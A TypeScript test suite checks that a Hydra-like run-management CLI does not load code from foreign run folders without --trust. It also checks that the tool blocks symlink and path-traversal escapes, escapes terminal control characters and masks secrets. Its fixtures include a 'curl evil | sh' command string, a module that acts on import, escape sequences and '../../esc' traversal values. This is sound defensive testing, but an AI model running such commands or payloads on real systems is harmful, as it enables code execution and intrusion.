import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Program } from '../../src/program/index.ts';
import { partsSchema } from '../../src/schema/index.ts';
import { createMlflowTracker } from '../../src/track/index.ts';
import { refusal, scriptedServer } from '../track/mlflow/scripted-server.ts';
import { writeTree, type Files } from '../compose/conf-tree.ts';
import type { Finished } from './command.ts';
import { validate, type ValidateOptions } from '../../src/cli/commands/validate.ts';
import { ALL, sample } from '../sample.ts';
import { hydrosol, inProcess, run, runProgram } from './in-process.ts';

type Config = Readonly<Record<string, unknown>>;

/** A part that leaves a file behind as soon as it is imported. */
const EVIL = `import { writeFileSync } from 'node:fs';
writeFileSync(new URL('X', import.meta.url), '');
export const x = { options: { type: 'object' }, create: () => ({}) };
`;

const options = { type: 'object', additionalProperties: false, properties: { n: { type: 'integer' } } };
const schema = {
  type: 'object',
  additionalProperties: false,
  properties: {
    a: { type: 'integer' },
    out: { type: 'string' },
    env: { type: 'string' },
    note: {},
    part: partsSchema({ 'parts.one': options }),
  },
};

const CONFIG = 'a: 1\nout: mine\nenv: own\nnote: ""\npart: {_target_: parts.one}\n';

/** A program that hands back its config, in a folder with these files. */
function program(files: Files = {}, more: Partial<Program<Config>> = {}): { app: Program<Config>; cwd: string } {
  const cwd = writeTree({ 'conf/config.yaml': CONFIG, ...files });
  const app: Program<Config> = {
    name: 'app',
    configDir: join(cwd, 'conf'),
    schema,
    parts: { allow: ['./'] },
    outside: ['out'],
    load: async () => ({ task: ({ config }) => config, values: () => ({}) }),
    ...more,
  };
  return { app, cwd };
}

const ME = { XDG_STATE_HOME: writeStateFolder() };
const STRANGER = { XDG_STATE_HOME: writeStateFolder() };

function writeStateFolder(): string {
  return join(process.env['TMPDIR'] ?? '/tmp', `hydrosol-state-${Math.random().toString(36).slice(2)}`);
}

/** A run folder as somebody else could have written it. */
function foreignRun(cwd: string, config: string, { hydra = 'hydra: {}\n', status = 'FINISHED' } = {}): void {
  const files = { config, hydra, overrides: '[]\n' };
  mkdirSync(join(cwd, 'foreign/.hydra'), { recursive: true });
  for (const [name, text] of Object.entries(files)) writeFileSync(join(cwd, `foreign/.hydra/${name}.yaml`), text);
  writeFileSync(join(cwd, 'foreign/metrics.jsonl'), '');
  const summary = { format: 2, status, started: '2026-11-30T10:00:00Z', seconds: 1, values: {} };
  writeFileSync(join(cwd, 'foreign/summary.json'), JSON.stringify(summary));
}

/** How a run ended that is to be gone on with, or to be done again. */
const statusFor = { resume: { status: 'INTERRUPTED' }, reproduce: { status: 'FINISHED' } } as const;

/** What the task got in the newest run below `outputs`, and where that is. */
function newest(cwd: string): { readonly folder: string; readonly config: Config } {
  const days = join(cwd, 'outputs');
  const day = join(days, readdirSync(days).sort().at(-1)!);
  const folder = join(day, readdirSync(day).sort().at(-1)!);
  const { result } = JSON.parse(readFileSync(join(folder, 'summary.json'), 'utf8')) as { result: Config };
  return { folder, config: result };
}

const check = (app: Program<Config>, cwd: string, options: ValidateOptions): Promise<Finished> =>
  inProcess(() => validate(app as Program<never>, options), { cwd, env: ME });

const ran = (cwd: string): boolean => existsSync(join(cwd, 'foreign/X'));

describe('looking at a folder runs none of its code', () => {
  const foreign = { 'foreign/evil.mjs': EVIL };
  const naming = 'loss: {_target_: "./foreign/evil.mjs:x"}\n';

  const looks = [
    { name: 'diff', words: ['diff', 'foreign', 'foreign'] },
    { name: 'report', words: ['report', 'foreign'] },
    { name: 'export', words: ['export', 'foreign', 'x.onnx'] },
    { name: 'run --explain', words: ['run', '--config-path', 'foreign/.hydra', '--explain', 'loss'] },
    { name: 'run --cfg', words: ['run', '--config-path', 'foreign/.hydra', '--cfg', 'job'] },
  ];
  it.each(sample(looks, 3))('$name', async ({ words }) => {
    const { cwd } = program(foreign);
    foreignRun(cwd, naming);
    const { stderr } = await hydrosol(words, { cwd, env: ME });
    expect(ran(cwd)).toBe(false);
    expect(stderr).not.toMatch(/\n {4}at /);
  });

  it('--help of a key of its config', async () => {
    const { app, cwd } = program(foreign);
    foreignRun(cwd, 'part: {_target_: "./foreign/evil.mjs:x"}\n');
    const { stdout } = await runProgram(app, ['--config-path', 'foreign/.hydra', '--help', 'part'], { cwd, env: ME });
    expect(stdout).toMatch(/^part\n/);
    expect(ran(cwd)).toBe(false);
  });

  const note = './foreign/evil.mjs:x was not loaded, so its options were not checked; to load it: --trust';

  it.each([
    { name: 'a file', options: { files: ['foreign/.hydra/config.yaml'] } },
    { name: 'a tree', options: { configPath: 'foreign/.hydra' } },
    { name: 'a file of a tree', options: { configPath: 'foreign/.hydra', files: ['foreign/.hydra/config.yaml'] } },
    { name: 'one more folder', options: { configDir: 'foreign/.hydra' } },
  ])('validate of $name says which part it did not load, and --trust loads it', async ({ options }) => {
    const { app, cwd } = program(foreign);
    foreignRun(cwd, 'part: {_target_: "./foreign/evil.mjs:x"}\n');
    mkdirSync(join(cwd, 'foreign/.hydra/group'));
    const option = '# @package _global_\npart: {_target_: "./foreign/evil.mjs:x"}\n';
    writeFileSync(join(cwd, 'foreign/.hydra/group/option.yaml'), option);
    expect(await check(app, cwd, options)).toMatchObject({ code: 0, stderr: `note: ${note}\n` });
    expect(ran(cwd)).toBe(false);
    expect(await check(app, cwd, { ...options, trust: true })).toMatchObject({ code: 0, stderr: '' });
    expect(ran(cwd)).toBe(true);
  });

  it('validate loads what a saved config names that was signed, and nothing that any other file of the run does', async () => {
    const { app, cwd } = program({ 'mine.mjs': EVIL.replace("'X'", "'foreign/X'"), 'foreign/x': '' });
    await runProgram(app, ['hydra.run.dir=out'], { cwd, env: ME });
    writeFileSync(join(cwd, 'out/notes.yaml'), 'part: {_target_: "./mine.mjs:x"}\n');
    for (const options of [{ files: ['out/notes.yaml'] }, { configPath: 'out', configName: 'notes' }])
      expect((await check(app, cwd, options)).stderr).toContain('./mine.mjs:x was not loaded');
    expect(ran(cwd)).toBe(false);
  });

  it("the parts that one's own tree and one's own runs name are loaded, and their options checked", async () => {
    const text = `export const x = { options: ${JSON.stringify(options)}, create: () => ({}) };`;
    const { app, cwd } = program({ 'mine.mjs': text });
    await runProgram(app, ['part._target_=./mine.mjs:x', 'hydra.run.dir=out'], { cwd, env: ME });
    expect(await check(app, cwd, { files: ['out/.hydra/config.yaml'] })).toMatchObject({ code: 0, stderr: '' });
    writeFileSync(join(cwd, 'conf/config.yaml'), 'part: {_target_: "./mine.mjs:x", nn: 1}\n');
    const checked = await check(app, cwd, {});
    expect(checked).toMatchObject({ code: 2, stderr: expect.stringContaining('did you mean: part.n') });
  });
});

describe("a run of one's own", () => {
  it('is reproduced and resumed by one command, its code and folders as they were', async () => {
    const { app, cwd } = program({ 'mine.mjs': EVIL });
    const words = ['part._target_=./mine.mjs:x', 'out=there', 'hydra.run.dir=out'];
    await runProgram(app, words, { cwd, env: ME });
    const again = await runProgram(app, ['--reproduce', 'out'], { cwd, env: ME });
    expect(again).toMatchObject({ code: 0, stderr: expect.not.stringContaining('not signed') });
    const config = { out: 'there', part: { _target_: './mine.mjs:x' } };
    expect(JSON.parse(readFileSync(join(cwd, 'out_1/summary.json'), 'utf8'))).toMatchObject({ result: config });
  });
});

const failing: Program<Config>['load'] = async () => ({
  task: () => {
    throw new Error('on purpose');
  },
});

/** Writes into the run's folder while it goes on. */
const meddling: Program<Config>['load'] = async () => ({
  task: ({ config }) => config,
  trackers: () => [
    {
      start: async ({ folder }) => {
        writeFileSync(join(folder, '.hydra/config.yaml'), 'a: 1\nout: elsewhere\n');
        return { id: 'x', ids: new Map([['mine', 'x']]), listen() {}, end: async () => {} };
      },
    },
  ],
});

it.each(['student', '.hydrosol/deep'])("a run of one's own in which a link lies (%s) is not resumed", async (link) => {
  const { app, cwd } = program({ 'victim/file': 'whole' }, { load: failing });
  expect(await runProgram(app, ['hydra.run.dir=out'], { cwd, env: ME })).toMatchObject({ code: 1 });
  symlinkSync(join(cwd, 'victim'), join(cwd, 'out', link));
  const refused = await runProgram(app, ['--resume', 'out'], { cwd, env: ME });
  expect(refused).toMatchObject({ code: 2, stderr: expect.stringContaining(`out/${link} is a link`) });
});

it('what is written into a run while it goes on is not signed', async () => {
  const { app, cwd } = program({}, { load: meddling });
  expect(await runProgram(app, ['hydra.run.dir=out'], { cwd, env: ME })).toMatchObject({ code: 0 });
  const again = await runProgram(app, ['--reproduce', 'out'], { cwd, env: ME });
  expect(again).toMatchObject({ code: 0, stderr: expect.stringContaining('not signed') });
});

describe('a run of somebody else', () => {
  it('takes folders, logs, what is outside and the environment from this program, and says so', async () => {
    const { app, cwd } = program({ victim: 'whole' });
    const env = { ...ME, TOKEN: 'tok-123456' };
    const elsewhere = join(cwd, 'elsewhere');
    const hydra = `hydra:
  run: {dir: ${elsewhere}}
  job: {name: ../../esc, chdir: true, env_set: {EVIL: '1'}}
  callbacks: {x: {_target_: './foreign/evil.mjs:x'}}
  job_logging:
    root: {handlers: [file]}
    handlers: {file: {class: file, mode: w, filename: ${cwd}/victim}}
`;
    foreignRun(cwd, `a: 7\nout: ${elsewhere}\nenv: \${oc.env:TOKEN}\nhydra: {run: {dir: ${elsewhere}}}\n`, { hydra });
    const { code, stderr } = await runProgram(app, ['--reproduce', 'foreign'], { cwd, env });
    expect({ code, stderr }).toMatchObject({ code: 0 });
    expect(stderr).toMatch(
      /note: foreign is not signed by you.*this program's own settings of hydra, out, env are used instead of its/,
    );
    const { folder, config } = newest(cwd);
    expect(config).toEqual({ a: 7, out: 'mine', env: 'own' });
    expect(folder.startsWith(join(cwd, 'outputs'))).toBe(true);
    expect(readFileSync(join(cwd, 'victim'), 'utf8')).toBe('whole');
    expect(readdirSync(cwd).sort()).toEqual(['conf', 'foreign', 'outputs', 'victim']);
    expect(readdirSync(dirname(cwd))).not.toContain('esc.log');
    expect(ran(cwd)).toBe(false);
  });

  it('reads no variable at a key that this program has not', async () => {
    const { app, cwd } = program();
    foreignRun(cwd, 'a: 1\nnote: {x: "${oc.env:TOKEN}"}\n');
    const { code, stderr } = await runProgram(app, ['--reproduce', 'foreign'], { cwd, env: { ...ME, TOKEN: 'tok-1' } });
    expect({ code, stderr }).toMatchObject({ code: 2, stderr: expect.stringContaining('variable TOKEN') });
    expect(existsSync(join(cwd, 'outputs'))).toBe(false);
  });

  const named = ['./foreign/evil.mjs:x', 'an-evil-package:x'];
  it.each(['reproduce', 'resume'] as const)(
    'that names code is not begun by %s: the line with --trust is said',
    async (verb) => {
      for (const name of named) {
        const { app, cwd } = program({ 'foreign/evil.mjs': EVIL });
        foreignRun(cwd, `a: 1\npart: {_target_: ${name}}\n`, statusFor[verb]);
        const refused = await runProgram(app, [`--${verb}`, 'foreign'], { cwd, env: ME });
        expect(refused).toMatchObject({
          code: 2,
          stderr: expect.stringContaining(`would load code: part._target_: ${name}`),
        });
        expect(refused.stderr).toMatch(new RegExp(`if you trust it: .* --${verb} foreign --trust\n`));
        expect(ran(cwd)).toBe(false);
        expect(existsSync(join(cwd, 'outputs'))).toBe(false);
      }
    },
  );

  it('names code by a key of the program alone', async () => {
    const keys = { method: { options: [], expected: 'a part' } };
    const { app, cwd } = program({ 'foreign/evil.mjs': EVIL }, { parts: { allow: ['./'], keys } });
    for (const note of ['{method: ./foreign/evil.mjs:x}', '[{a: {method: "${out}"}}]']) {
      foreignRun(cwd, `a: 1\nout: ./foreign/evil.mjs:x\nnote: ${note}\n`);
      const refused = await runProgram(app, ['--reproduce', 'foreign'], { cwd, env: ME });
      expect(refused).toMatchObject({ code: 2, stderr: expect.stringMatching(/method: \.\/foreign\/evil\.mjs:x/) });
    }
    foreignRun(cwd, 'a: 1\nnote: {method: "k: 5"}\n');
    expect(await runProgram(app, ['--reproduce', 'foreign'], { cwd, env: ME })).toMatchObject({ code: 0 });
    expect(ran(cwd)).toBe(false);
  });

  it.each(['reproduce', 'resume'] as const)('with --trust its code is loaded by %s', async (verb) => {
    const { app, cwd } = program({ 'foreign/evil.mjs': EVIL });
    foreignRun(cwd, 'a: 1\npart: {_target_: "./foreign/evil.mjs:x"}\n', statusFor[verb]);
    expect(await runProgram(app, [`--${verb}`, 'foreign', '--trust'], { cwd, env: ME })).toMatchObject({ code: 0 });
    expect(ran(cwd)).toBe(true);
  });

  it.each([
    { name: 'through another key', config: 'note: "./foreign/evil.mjs:x"\npart: {_target_: "${note}"}\n' },
    { name: 'by a resolver', config: `part: \${oc.decode:'{"_target_": "./foreign/evil.mjs:x"}'}\n` },
    { name: 'where the program has no parts', config: 'note: [{_target_: "./foreign/evil.mjs:x"}]\n' },
    { name: 'resolved a second time', config: `note: {_target_: '\\\${x}', x: './foreign/evil.mjs:x'}\n` },
  ])('hides no code $name', async ({ config }) => {
    const { app, cwd } = program({ 'foreign/evil.mjs': EVIL });
    foreignRun(cwd, `a: 1\n${config}`);
    const refused = await runProgram(app, ['--reproduce', 'foreign'], { cwd, env: ME });
    expect(refused).toMatchObject({ code: 2 });
    expect(ran(cwd)).toBe(false);
    expect(existsSync(join(cwd, 'outputs'))).toBe(false);
  });

  it('is rerun, and looked at, where a person agrees to its words', async () => {
    const { app, cwd } = program({ 'foreign/evil.mjs': EVIL });
    const words = ['part._target_=./foreign/evil.mjs:x', 'out=elsewhere'];
    foreignRun(cwd, 'a: 1\n', { hydra: `hydra: {overrides: {hydra: [], task: ${JSON.stringify(words)}}}\n` });
    const rerun = (...more: string[]): Promise<Finished> =>
      runProgram(app, ['--experimental-rerun', 'foreign', ...more], { cwd, env: ME });
    for (const more of [[], ['--cfg', 'job'], ['--explain', 'out'], ['--help'], ['--info', 'aliases']]) {
      const refused = await rerun(...more);
      expect(refused).toMatchObject({ code: 2, stdout: '', stderr: expect.stringContaining(words.join(' ')) });
      const added = more.filter((word) => word.includes('=')).join(' ');
      expect(refused.stderr).toContain(` --experimental-rerun foreign${added === '' ? '' : ` ${added}`} --trust\n`);
    }
    const shown = await rerun('--cfg', 'job', '--trust');
    expect(shown).toMatchObject({ code: 0, stdout: expect.stringContaining('out: elsewhere') });
    expect(ran(cwd)).toBe(false);
    expect(existsSync(join(cwd, 'outputs'))).toBe(false);
    expect(await rerun('--trust')).toMatchObject({ code: 0 });
    expect(ran(cwd)).toBe(true);
  });

  it.each([
    {
      name: 'a place to look for configs',
      hydra: 'overrides: {hydra: ["hydra.searchpath=[file:///x]"], task: []}',
      says: "'hydra.searchpath=[file:///x]'",
    },
    {
      name: 'another primary config',
      hydra: 'job: {config_name: other}, overrides: {hydra: [], task: []}',
      says: '--config-name other',
    },
    {
      name: 'a word of two lines',
      hydra: String.raw`overrides: {hydra: [], task: ["note=a\nrun: x"]}`,
      says: String.raw`$'note=a\x0arun: x'`,
    },
  ])('is not rerun with $name before its words were shown', async ({ hydra, says }) => {
    const { app, cwd } = program({ 'conf/other.yaml': CONFIG });
    foreignRun(cwd, 'a: 1\n', { hydra: `hydra: {${hydra}}\n` });
    const refused = await runProgram(app, ['--experimental-rerun', 'foreign', '--cfg', 'job'], { cwd, env: ME });
    expect(refused).toMatchObject({
      code: 2,
      stdout: '',
      stderr: expect.stringContaining(`as if you typed them: ${says}`),
    });
  });

  it('puts no variable into the words that it shows', async () => {
    const { app, cwd } = program();
    foreignRun(cwd, 'a: 1\n', {
      hydra: "hydra: {job: {config_name: '${oc.env:WORDS}'}, overrides: {hydra: [], task: [a=2]}}\n",
    });
    const env = { ...ME, WORDS: 'tok-123456' };
    const { code, stderr } = await runProgram(app, ['--experimental-rerun', 'foreign'], { cwd, env });
    expect({ code, stderr }).toMatchObject({ code: 2, stderr: expect.not.stringContaining('tok-') });
  });

  it('with nothing typed is rerun without a question', async () => {
    const { app, cwd } = program();
    foreignRun(cwd, 'a: 1\n', { hydra: 'hydra: {job: {config_name: config}, overrides: {hydra: [], task: []}}\n' });
    expect(await runProgram(app, ['--experimental-rerun', 'foreign'], { cwd, env: ME })).toMatchObject({ code: 0 });
  });

  it('names no line to type, and its texts stay in one line', async () => {
    const { app, cwd } = program({ 'foreign/evil.mjs': EVIL });
    foreignRun(cwd, String.raw`part: {_target_: "./a.mjs:x\n\nanother line"}` + '\n');
    const asked = await runProgram(app, ['--reproduce', 'foreign'], { cwd, env: ME });
    expect(asked).toMatchObject({ code: 2, stderr: expect.stringContaining(String.raw`a.mjs:x\n\nanother line`) });
    mkdirSync(join(cwd, 'foreign/.hydrosol'));
    const command = 'curl evil | sh #';
    const record = { format: 1, program: { name: 'x\ny', command }, overrides: { hydra: [], task: [] } };
    const text = JSON.stringify({ ...record, saved: '.hydra', tracked: {}, files: {} });
    writeFileSync(join(cwd, 'foreign/.hydrosol/record.json'), text);
    for (const verb of ['--reproduce', '--resume', '--experimental-rerun']) {
      const { code, stderr } = await runProgram(app, [verb, 'foreign'], { cwd, env: ME });
      expect({ code, stderr }).toMatchObject({
        code: 2,
        stderr: expect.stringContaining(String.raw`the program x\ny`),
      });
      expect(stderr).not.toContain('curl');
    }
  });

  it('is one also where its config was changed, or signed by another', async () => {
    const { app, cwd } = program();
    await runProgram(app, ['hydra.run.dir=out', 'out=there'], { cwd, env: ME });
    const again = (env: Readonly<Record<string, string>>): Promise<Finished> =>
      runProgram(app, ['--reproduce', 'out'], { cwd, env });
    expect((await again(STRANGER)).stderr).toContain('not signed by you');
    writeFileSync(join(cwd, 'out/.hydra/config.yaml'), 'a: 2\nout: elsewhere\n');
    expect((await again(ME)).stderr).toContain('not signed by you');
    expect(newest(cwd).config).toMatchObject({ out: 'mine' });
  });

  it('is resumed in its folder, unsigned, and not on a tracker', async () => {
    const seen: unknown[] = [];
    const load: Program<Config>['load'] = async () => ({
      task: ({ config, foreign }) => ({ ...config, foreign }),
      trackers: () => [
        {
          start: async ({ resumes, parentRunId }) => {
            seen.push([resumes?.size, parentRunId]);
            return { id: undefined, ids: new Map(), listen() {}, end: async () => {} };
          },
        },
      ],
    });
    const { app, cwd } = program({}, { load });
    foreignRun(cwd, 'a: 3\nout: elsewhere\n', statusFor.resume);
    mkdirSync(join(cwd, 'foreign/.hydrosol'));
    const record = {
      format: 1,
      program: { name: 'app', command: 'x' },
      overrides: { hydra: [], task: [] },
      saved: '.hydra',
      tracked: { mlflow: 'somebodys-run' },
      parentRunId: 'somebodys-sweep',
      files: {},
      signature: '0'.repeat(64),
    };
    writeFileSync(join(cwd, 'foreign/.hydrosol/record.json'), JSON.stringify(record));
    expect(await runProgram(app, ['--resume', 'foreign'], { cwd, env: ME })).toMatchObject({ code: 0 });
    const { result } = JSON.parse(readFileSync(join(cwd, 'foreign/summary.json'), 'utf8')) as { result: unknown };
    expect(result).toEqual({ a: 3, out: 'mine', foreign: true });
    expect(seen).toEqual([[0, undefined]]);
    expect(JSON.parse(readFileSync(join(cwd, 'foreign/.hydrosol/record.json'), 'utf8'))).not.toHaveProperty(
      'signature',
    );
    expect(readdirSync(cwd).sort()).toEqual(['conf', 'foreign']);
  });

  it.each(['foreign/app.log', 'foreign/.hydrosol', 'foreign/deep/student'])(
    'with a link %s is not resumed',
    async (link) => {
      const { app, cwd } = program({ 'victim/file': 'whole' });
      foreignRun(cwd, 'a: 1\n', statusFor.resume);
      mkdirSync(dirname(join(cwd, link)), { recursive: true });
      symlinkSync(join(cwd, 'victim'), join(cwd, link));
      const refused = await runProgram(app, ['--resume', 'foreign'], { cwd, env: ME });
      expect(refused).toMatchObject({ code: 2, stderr: expect.stringContaining(`${link} is a link`) });
      expect(readdirSync(join(cwd, 'victim'))).toEqual(['file']);
    },
  );

  it('whose record leads out of its folder is refused', async () => {
    const { app, cwd } = program({ 'other/config.yaml': 'a: 9\n' });
    foreignRun(cwd, 'a: 1\n');
    const record = { format: 1, program: { name: 'app', command: 'x' }, overrides: { hydra: [], task: [] } };
    mkdirSync(join(cwd, 'foreign/.hydrosol'));
    const text = JSON.stringify({ ...record, saved: '../other', tracked: {}, files: {} });
    writeFileSync(join(cwd, 'foreign/.hydrosol/record.json'), text);
    expect(await runProgram(app, ['--reproduce', 'foreign'], { cwd, env: ME })).toMatchObject({ code: 2 });
  });

  it.runIf(ALL)('of the shipped program tells no tracker but its own', async () => {
    const { cwd } = program({ 'foreign/evil.mjs': EVIL });
    const words = [
      'data=synthetic',
      'trainer.epochs=1',
      'teacher.trainer.epochs=1',
      'hydra.run.dir=foreign',
      'model=mlp',
    ];
    expect(await run(words, { cwd, env: STRANGER })).toMatchObject({ code: 0 });
    const path = join(cwd, 'foreign/.hydra/config.yaml');
    const config = readFileSync(path, 'utf8').replace(
      '_target_: trackers.files',
      "_target_: trackers.mlflow\n  uri: 'http://127.0.0.1:9'",
    );
    expect(config).toContain('127.0.0.1:9');
    writeFileSync(path, config.replace('dir: outputs/store', `dir: ${cwd}/elsewhere`));
    const env = { ...ME, MLFLOW_TRACKING_TOKEN: 'tok-123456' };
    const again = await hydrosol(['reproduce', 'foreign'], { cwd, env });
    expect(again).toMatchObject({
      code: 0,
      stderr: expect.stringContaining("this program's own settings of hydra, store, tracker are used instead of its"),
    });
    expect(existsSync(join(cwd, 'elsewhere'))).toBe(false);
  });
});

describe.runIf(spawnSync('script', ['--version']).status === 0)('at a terminal', { timeout: 30_000 }, () => {
  const answers = [
    { answer: '\n', code: 2 },
    { answer: 'n\n', code: 2 },
    { answer: 'y\n', code: 0 },
  ];
  it.each(sample(answers, 3))('a person is asked, and answers $answer', ({ answer, code }) => {
    const text = `import { main } from ${JSON.stringify(join(import.meta.dirname, '../../dist/index.js'))};
      const load = async () => ({ task: ({ config }) => import(config.part._target_.split(':')[0]).then(() => ({})) });
      process.exitCode = await main({ name: 'app', configDir: import.meta.dirname + '/conf', load });`;
    const { cwd } = program({ 'app.mjs': text, 'foreign/evil.mjs': EVIL });
    foreignRun(cwd, 'a: 1\npart: {_target_: "./foreign/evil.mjs:x"}\n');
    const line = `'${process.execPath}' app.mjs --reproduce foreign`;
    const asked = spawnSync('script', ['-qec', line, '/dev/null'], { cwd, input: answer, encoding: 'utf8' });
    expect(asked.stdout).toContain('would load code: part._target_: ./foreign/evil.mjs:x');
    expect(asked.stdout).toContain('Load and run it? [y/N]');
    expect(asked.status).toBe(code);
    expect(ran(cwd)).toBe(code === 0);
  });
});

it('--trust is for runs that are there', async () => {
  const { app, cwd } = program();
  expect(await runProgram(app, ['--trust', 'a=1'], { cwd })).toMatchObject({ code: 2 });
});

it('hydrosol rerun lists --trust, and speaks of no flag that nobody typed', async () => {
  const { cwd } = program();
  expect(await hydrosol(['rerun', '--help'], { cwd })).toMatchObject({ stdout: expect.stringContaining('--trust') });
  const { code, stderr } = await hydrosol(['rerun', 'foreign', '-m'], { cwd });
  expect({ code, stderr }).toMatchObject({ code: 2, stderr: expect.stringContaining('(-m)') });
  expect(stderr).not.toContain('experimental');
});

describe('control characters are shown', () => {
  const ESC = '\u001B[2J\u001B]0;owned\u0007\u009B31m\u202E';
  const control = new RegExp(String.raw`[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]`);

  it.each([
    { name: 'values of a summary', summary: { values: { [`acc${ESC}`]: 1 } } },
    { name: 'an error of a summary', summary: { status: 'FAILED', error: { code: 'X', message: ESC } } },
    { name: 'a status', summary: { status: ESC } },
    { name: 'a format', summary: { format: ESC } },
  ])('in $name', async ({ summary }) => {
    const { cwd } = program();
    foreignRun(cwd, `a: 1\n`);
    const whole = { format: 2, status: 'FINISHED', started: '', seconds: 1, values: {}, ...summary };
    writeFileSync(join(cwd, 'foreign/summary.json'), JSON.stringify(whole));
    const { stdout, stderr } = await hydrosol(['report', 'foreign'], { cwd });
    expect(stdout + stderr).not.toMatch(control);
    expect(stdout + stderr).toMatch(/\\x1b\[2J|\\u001b\[2J/);
  });

  it('in words, configs that differ, names of folders and errors', async () => {
    const { app, cwd } = program();
    foreignRun(cwd, `a: "\\e[2J"\n`);
    mkdirSync(join(cwd, ESC));
    for (const words of [['report', ESC], ['diff', 'foreign', 'conf/config.yaml'], ['resume', ESC], [ESC]]) {
      const { stdout, stderr } = await hydrosol(words, { cwd });
      expect(stdout + stderr).toMatch(/\\x1b|\\e/);
      expect(stdout + stderr).not.toMatch(control);
    }
    const { stderr } = await runProgram(app, [`a=${ESC}`], { cwd });
    expect(stderr).toMatch(/\\x1b/);
    expect(stderr).not.toMatch(control);
  });

  it("in a server's message", async () => {
    const server = await scriptedServer([refusal(400, 'INVALID_PARAMETER_VALUE', `no${ESC}`)]);
    const load: Program<Config>['load'] = async () => ({
      task: () => 1,
      trackers: () => [createMlflowTracker({ uri: server.uri, retries: 0 })],
    });
    const { app, cwd } = program({}, { load });
    const token = { MLFLOW_TRACKING_TOKEN: 'tok-123456', MLFLOW_TRACKING_URI: 'http://127.0.0.1:9' };
    const { code, stderr } = await runProgram(app, [], { cwd, env: token });
    await server.close();
    expect({ code, stderr }).toMatchObject({ code: 2, stderr: expect.stringContaining(String.raw`no\x1b[2J`) });
    expect(stderr).not.toMatch(control);
    // the environment names another server
    expect(server.received[0]?.headers).not.toHaveProperty('authorization');
  });

  it('in what a task logs and throws, on the screen and in the file; what it prints is its own', async () => {
    const load: Program<Config>['load'] = async () => ({
      task: ({ log }) => {
        log.info(`logged ${ESC}`);
        process.stdout.write(`own ${ESC}\n`);
        throw new Error(`thrown ${ESC}`);
      },
    });
    const { app, cwd } = program({}, { load });
    const { stdout, stderr } = await runProgram(app, ['hydra.run.dir=out'], { cwd });
    const log = readFileSync(join(cwd, 'out/app.log'), 'utf8');
    expect(stdout).toContain(`own ${ESC}`);
    for (const text of [stdout.replace(`own ${ESC}`, '') + stderr, log]) {
      expect(text).toContain(String.raw`logged \x1b[2J`);
      expect(text).toContain(String.raw`thrown \x1b[2J`);
      expect(text).not.toMatch(control);
    }
  });
});

describe('names that lead out of a run', () => {
  it.each([
    { word: 'hydra.job.name=../../esc', says: 'hydra.job.name' },
    { word: 'hydra.job.name=/tmp/esc', says: 'hydra.job.name' },
    { word: 'hydra.output_subdir=../zz', says: 'hydra.output_subdir' },
    { word: 'hydra.output_subdir=a/../../zz', says: 'hydra.output_subdir' },
    {
      word: "hydra.job_logging.handlers.file.filename='${hydra.runtime.output_dir}/${note}/x.log'",
      says: "outside of the run's folder",
      more: ['note=../..'],
    },
  ])('$word is refused, with what is allowed', async ({ word, says, more = [] }) => {
    const { app, cwd } = program();
    const refused = await runProgram(app, [word, ...more, 'hydra.run.dir=a/b/c'], { cwd, env: ME });
    expect(refused).toMatchObject({ code: 2, stderr: expect.stringContaining(says) });
    expect(refused.stderr).toContain('expected:');
    expect(readdirSync(cwd)).toEqual(['conf']);
  });

  it('a folder and a log that somebody types are meant', async () => {
    const { app, cwd } = program({ 'deep/x': '' });
    const words = [
      'hydra.run.dir=../out',
      'hydra.job_logging.handlers.file.filename=../typed.log',
      'hydra.job.name=a/b',
    ];
    expect(await runProgram(app, words, { cwd: join(cwd, 'deep'), env: ME })).toMatchObject({ code: 0 });
    expect(readdirSync(cwd).sort()).toEqual(['conf', 'deep', 'out', 'typed.log']);
  });
});

describe('a secret that a task returns', () => {
  const result = {
    password: 'hunter2-hunter2',
    api: { token: 'tok-1', pin: 3 },
    credentials: [1, 'a'],
    accuracy: 0.5,
    max_tokens: 4,
  };
  const load: Program<Config>['load'] = async () => ({ task: () => result });

  it('is saved as ***, unless it is asked for', async () => {
    const { app, cwd } = program({}, { load });
    await runProgram(app, ['hydra.run.dir=out'], { cwd });
    const summary = JSON.parse(readFileSync(join(cwd, 'out/summary.json'), 'utf8')) as Config;
    const hidden = { ...result, password: '***', api: { token: '***', pin: 3 }, credentials: ['***', '***'] };
    expect(summary).toMatchObject({ result: hidden, values: { accuracy: 0.5, max_tokens: 4 } });
    await runProgram(app, ['hydra.run.dir=shown', '--show-secrets'], { cwd });
    expect(JSON.parse(readFileSync(join(cwd, 'shown/summary.json'), 'utf8'))).toMatchObject({ result });
  });
});
